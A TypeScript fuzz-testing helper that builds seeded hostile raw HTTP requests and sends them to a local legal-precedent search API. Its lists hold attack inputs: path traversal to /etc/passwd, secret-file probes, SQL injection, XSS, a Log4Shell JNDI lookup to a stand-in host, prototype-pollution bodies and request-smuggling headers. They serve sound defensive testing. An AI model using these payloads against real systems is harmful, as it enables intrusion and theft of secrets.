import fc from 'fast-check';
import net from 'node:net';

/**
 * Generated hostile HTTP requests, as raw bytes: methods, paths, query strings, headers, bodies and
 * encodings an attacker (or a broken client) sends. Built from fast-check arbitraries and drawn with a
 * seed, so a failure can be replayed exactly (`ALAW_FUZZ_SEED=<seed>`).
 */

const ROUTES = [
  '/',
  '/docs',
  '/docs/',
  '/docs/json',
  '/metrics',
  '/api/search',
  '/api/search/status',
  '/api/search/explain',
  '/api/precedents',
  '/api/precedents/kr-0123456789abcdef',
  '/api/precedents/kr-0123456789abcdef/citations',
  '/api/statutes/민법/제750조/precedents',
  '/api/queue/health',
  '/api/queue/status/json',
  '/api/queue/clear',
  '/api/queue/tasks/00000000-0000-0000-0000-000000000000',
  '/api/analysis',
  '/api/analysis/00000000-0000-0000-0000-000000000000',
  '/api/analysis/00000000-0000-0000-0000-000000000000/events',
  '/api/admin/logs/report',
];

/** What scanners and attackers ask for. */
const SCANNER_PATHS = [
  '/.env',
  '/.git/config',
  '/wp-admin/',
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/../../../../etc/passwd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/api/precedents/..%2f..%2fetc%2fpasswd',
  '/api/precedents/%00',
  '/api/precedents/%ZZ',
  '/api/precedents/%E0%A4%A',
  '/api/precedents/' + 'a'.repeat(300),
  '/api//search',
  '/API/SEARCH',
  '/api/search/',
  '//api/search',
  '/api/search;jsessionid=1',
  '*',
  'http://evil.example/api/search',
  '/api/analysis/../queue/clear',
];

const PARAM_NAMES = [
  'q',
  'page',
  'size',
  'sort',
  'mode',
  'court_level',
  'court',
  'case_type',
  'date_from',
  'date_to',
  'snippets',
  'id',
  'hours',
  'type',
  'type[]',
  'case_number',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  'prototype',
  '__proto__[x]',
  'q[]',
  'q[0]',
  'a.b',
  '',
  '%',
  '%ZZ',
];

const HOSTILE_VALUES = [
  'Infinity',
  '-Infinity',
  'NaN',
  '1E400',
  '-1E400',
  '1e2',
  '-0',
  '0x10',
  '0b11',
  '0o7',
  '1_000',
  ' 1',
  '1 ',
  '9007199254740993',
  '99999999999999999999999',
  '-1',
  '0',
  '1.5',
  'true',
  'null',
  'undefined',
  '[]',
  '{}',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '${jndi:ldap://x/a}',
  '../../etc/passwd',
  '취득시효',
  '대법원',
  '2020다12345',
  '2024-02-30',
  '0000-00-00',
  '9999-12-31',
  '\u0000',
  '\uD800',
  '\uFEFF',
  'A'.repeat(6000),
  '가'.repeat(5001),
];

const rawValue = fc.oneof(fc.constantFrom(...HOSTILE_VALUES), fc.string({ maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 20 }));

/** A query value in one of several encodings: proper, raw UTF-8 bytes, or broken escapes. */
const encodedValue = fc.tuple(rawValue, fc.constantFrom('proper', 'proper', 'raw', 'broken', 'double')).map(([v, how]) => {
  if (how === 'proper') return encodeURIComponent(v.replace(/[\uD800-\uDFFF]/g, '\uFFFD'));
  if (how === 'raw') return v;
  if (how === 'double') return encodeURIComponent(encodeURIComponent(v.replace(/[\uD800-\uDFFF]/g, '\uFFFD')));
  return `${encodeURIComponent(v.slice(0, 5).replace(/[\uD800-\uDFFF]/g, ''))}%${['', 'Z', 'E0%A4%A', 'C0%80', 'FF', '0'][v.length % 6]}`;
});

const queryString = fc
  .array(fc.tuple(fc.constantFrom(...PARAM_NAMES), encodedValue), { maxLength: 6 })
  .map((pairs) => pairs.map(([k, v]) => `${k}=${v}`).join('&'));

const path = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...ROUTES) },
  { weight: 2, arbitrary: fc.constantFrom(...SCANNER_PATHS) },
  { weight: 1, arbitrary: fc.string({ maxLength: 30 }).map((s) => `/api/precedents/${s}`) },
  { weight: 1, arbitrary: fc.string({ maxLength: 30 }).map((s) => `/${s}`) },
);

const target = fc.tuple(path, fc.option(queryString, { nil: undefined })).map(([p, q]) => (q === undefined ? p : `${p}?${q}`));

const method = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('GET', 'POST') },
  { weight: 2, arbitrary: fc.constantFrom('HEAD', 'DELETE', 'PUT', 'PATCH', 'OPTIONS') },
  { weight: 1, arbitrary: fc.constantFrom('TRACE', 'CONNECT', 'FOO', 'get', 'G\u0000T', 'PROPFIND', 'M-SEARCH', '') },
);

const JSON_BODIES = [
  '{"q":"취득시효"}',
  '{"q":"취득시효","page":1,"size":5}',
  '{"q":123}',
  '{"q":null}',
  '{"q":["a","b"]}',
  '{"q":"x","page":1e400}',
  '{"q":"x","size":-0}',
  '{"q":"x","page":"2"}',
  '{"__proto__":{"admin":true},"q":"x"}',
  '{"constructor":{"prototype":{"x":1}},"q":"x"}',
  '{"description":"   "}',
  '{"description":"\\u0000\\u0000"}',
  '{"description":"임대차 보증금 반환 청구 사건에서 임차인이 대항력을 갖춘 뒤 소유자가 바뀌었습니다.","case_type":"민사"}',
  '{"description":"x","case_type":"없는유형"}',
  '{"type":"search"}',
  '{"type":["search"]}',
  '{',
  '',
  'null',
  '[]',
  '"string"',
  '{"q":"\\ud800"}',
  '{"q":"x",}',
  '{"a":' + '['.repeat(5000) + ']'.repeat(5000) + '}',
  '{"q":"' + '가'.repeat(30000) + '"}',
];

const body = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...JSON_BODIES).map((b) => Buffer.from(b, 'utf8')) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((a) => Buffer.from(a)) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => Buffer.from(JSON.stringify(v) ?? 'null', 'utf8')) },
);

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=latin1',
  'APPLICATION/JSON',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  '',
  'application/json, text/plain',
  ';;;',
];

const REQUEST_IDS = ['ok-123', 'a'.repeat(129), 'x'.repeat(5000), '<script>', 'a b', 'é', '', 'id\u0000nul', 'id\rcr', 'id\nlf'];
const HOSTS = ['localhost', '127.0.0.1:8997', 'evil.example', '', '[::1]', 'localhost:99999', 'a'.repeat(300), '127.0.0.1\u0000'];
const AUTHS = ['Bearer x', 'Bearer ' + 'a'.repeat(2000), 'Basic YWRtaW46YWRtaW4=', 'Bearer', 'bearer  two words', '\u0000'];

/** One header line: name and value, possibly illegal (CR, LF, NUL, 8-bit bytes, a name that is not a token). */
const header = fc.oneof(
  fc.constantFrom(...REQUEST_IDS).map((v) => ['X-Request-Id', v] as const),
  fc.constantFrom(...HOSTS).map((v) => ['Host', v] as const),
  fc.constantFrom(...AUTHS).map((v) => ['Authorization', v] as const),
  fc.constantFrom(...CONTENT_TYPES).map((v) => ['Content-Type', v] as const),
  fc.constantFrom('1.2.3.4', 'garbage', '127.0.0.1, 10.0.0.1', '::1', ''.padEnd(3000, '1,')).map((v) => ['X-Forwarded-For', v] as const),
  fc.constantFrom('gzip', 'br, deflate', '*', 'x'.repeat(500)).map((v) => ['Accept-Encoding', v] as const),
  fc.constantFrom('chunked', 'gzip, chunked', 'identity', 'chunked, chunked').map((v) => ['Transfer-Encoding', v] as const),
  fc.constantFrom('0', '-1', '99999999999', 'abc', '5, 6').map((v) => ['Content-Length', v] as const),
  fc.constantFrom('text/event-stream', '*/*', 'application/json;q=0').map((v) => ['Accept', v] as const),
  fc.constantFrom('Bad Name', 'X-\u0000', 'Ümlaut', '').map((n) => [n, 'v'] as const),
);

export interface FuzzRequest {
  /** The bytes sent on a fresh connection. */
  raw: Buffer;
  /** Whether the request is expected to be answered (a truncated body may legitimately get no answer). */
  label: string;
}

/**
 * Assembles one raw request: request line, headers (Content-Length computed unless a hostile one was drawn), body.
 * With `adminKey`, most requests carry it, so the admin and key-only routes are fuzzed past authentication.
 */
const request = (adminKey?: string) =>
  fc
    .record({
      withKey: fc.boolean(),
      method,
      target,
      version: fc.constantFrom('HTTP/1.1', 'HTTP/1.1', 'HTTP/1.1', 'HTTP/1.0', 'HTTP/2.0', 'HTTP/1.1 extra', ''),
      headers: fc.array(header, { maxLength: 5 }),
      body: fc.option(body, { nil: undefined, freq: 2 }),
      pipelined: fc.boolean(),
    })
    .map(({ withKey, method, target, version, headers, body, pipelined }): FuzzRequest => {
      const lines = [`${method} ${target} ${version}`.trimEnd()];
      const names = new Set(headers.map(([n]) => n.toLowerCase()));
      if (!names.has('host')) lines.push('Host: localhost');
      if (adminKey && withKey && !names.has('authorization')) lines.push(`Authorization: Bearer ${adminKey}`);
      for (const [n, v] of headers) lines.push(`${n}: ${v}`);
      if (body && !names.has('content-length') && !names.has('transfer-encoding')) {
        lines.push(`Content-Length: ${body.length}`);
        if (!names.has('content-type')) lines.push('Content-Type: application/json');
      }
      if (!pipelined) lines.push('Connection: close');
      const head = Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'utf8');
      const parts = [head, body ?? Buffer.alloc(0)];
      // A second request right behind the first on the same connection: it must be answered once, as itself.
      if (pipelined) parts.push(Buffer.from('GET /api/search?q=%EC%A0%90%EC%9C%A0 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n'));
      return { raw: Buffer.concat(parts), label: `${method} ${target.slice(0, 80)}` };
    });

export function fuzzRequests(seed: number, count: number, adminKey?: string): FuzzRequest[] {
  return fc.sample(request(adminKey), { seed, numRuns: count });
}

export interface Exchange {
  statuses: number[];
  /** The whole response text (headers and bodies), latin1. */
  text: string;
  timedOut: boolean;
}

/** Sends raw bytes on a new connection and collects every response until the server closes (or the timeout). */
export function exchange(port: number, raw: Buffer, timeoutMs = 5000): Promise<Exchange> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    let timedOut = false;
    const socket = net.connect(port, '127.0.0.1', () => socket.write(raw));
    const finish = (): void => {
      clearTimeout(timer);
      const text = Buffer.concat(chunks).toString('latin1');
      const statuses = [...text.matchAll(/HTTP\/1\.[01] (\d{3}) /g)].map((m) => Number(m[1]));
      resolve({ statuses, text, timedOut });
    };
    const timer = setTimeout(() => {
      timedOut = true;
      socket.destroy();
    }, timeoutMs);
    socket.on('data', (d: Buffer) => chunks.push(d));
    socket.on('error', () => undefined);
    socket.on('close', finish);
  });
}
